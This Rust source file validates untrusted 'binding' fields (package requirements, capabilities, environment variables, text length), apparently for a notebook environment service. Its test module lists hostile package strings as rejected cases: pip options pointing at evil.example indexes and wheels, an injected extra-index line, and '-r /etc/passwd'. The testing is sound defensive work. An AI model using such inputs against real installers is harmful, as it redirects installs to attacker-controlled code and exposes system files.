//! Checks of one field each, as a binding's `validate` applies them: what
//! a binding from a stranger's key may put in its text, environment,
//! capabilities and packages.

use std::collections::BTreeMap;

use super::{InvalidBinding, GRANTABLE_CAPABILITIES};
use crate::text::printable;

/// `packages`: at most 64, each a requirement of the package index by name
/// (`pandas`, `numpy>=2`, `ipykernel; python_version>"3.8"`): never a pip
/// option (`-e`, `--index-url`, `-r`), a URL or a direct reference (`@`),
/// which would let a binding reach past the index the operator chose.
pub(super) fn check_packages(packages: &[String]) -> Result<(), InvalidBinding> {
    if packages.len() > 64 {
        return Err(InvalidBinding("at most 64 'packages'".into()));
    }
    for p in packages {
        check_text("packages", p)?;
        let plain = p.starts_with(|c: char| c.is_ascii_alphanumeric())
            && !p.chars().any(char::is_control)
            && !p.contains('@')
            && !p.contains("://")
            && p.len() <= 200;
        if !plain {
            return Err(InvalidBinding(format!(
                "'packages': '{}' is not a package requirement (a name, then versions or markers; no options, URLs or '@')",
                printable(p)
            )));
        }
    }
    Ok(())
}

pub(super) fn check_capabilities(field: &str, caps: &[String]) -> Result<(), InvalidBinding> {
    for cap in caps {
        let name = cap.strip_prefix("CAP_").unwrap_or(cap);
        if !GRANTABLE_CAPABILITIES.contains(&name) {
            return Err(InvalidBinding(format!(
                "{field}: '{}' cannot be given back; allowed: {}",
                printable(cap),
                GRANTABLE_CAPABILITIES.join(", ")
            )));
        }
    }
    Ok(())
}

pub(super) fn check_text(field: &str, value: &str) -> Result<(), InvalidBinding> {
    if value.contains('\0') || value.len() > 4096 {
        Err(InvalidBinding(format!(
            "'{field}' holds a NUL byte or is longer than 4096 bytes"
        )))
    } else {
        Ok(())
    }
}

pub(super) fn check_env(env: &BTreeMap<String, String>) -> Result<(), InvalidBinding> {
    if env.len() > 256 {
        return Err(InvalidBinding("'env' has more than 256 entries".into()));
    }
    for (key, value) in env {
        let key_ok = !key.is_empty()
            && key.len() <= 256
            && !key.starts_with(|c: char| c.is_ascii_digit())
            && key.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
        if !key_ok {
            return Err(InvalidBinding(format!(
                "invalid environment variable name '{}'",
                printable(key)
            )));
        }
        if key.starts_with("BINDERD_") {
            return Err(InvalidBinding(format!(
                "'{key}': names starting with BINDERD_ are reserved"
            )));
        }
        check_text("env", value)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Attacks on `packages`: a pip option, a second line with one, a URL
    /// or a direct reference would reach past the operator's index.
    #[test]
    fn packages_are_requirements_by_name_only() {
        for ok in [
            "jupyterlab",
            "numpy>=2,<3",
            "ipykernel; python_version > \"3.8\"",
            "pandas[excel]",
        ] {
            assert!(check_packages(&[ok.into()]).is_ok(), "{ok}");
        }
        for bad in [
            "--index-url=http://evil.example/simple",
            "-e git+https://evil.example/x",
            "-r /etc/passwd",
            "pandas\n--extra-index-url http://evil.example",
            "x @ https://evil.example/x.whl",
            "https://evil.example/x.whl",
            "",
        ] {
            let e = check_packages(&[bad.into()]).unwrap_err();
            assert!(e.0.contains("'packages'"), "{bad}: {e:?}");
        }
        assert!(check_packages(&vec!["a".to_owned(); 65]).is_err());
    }
}
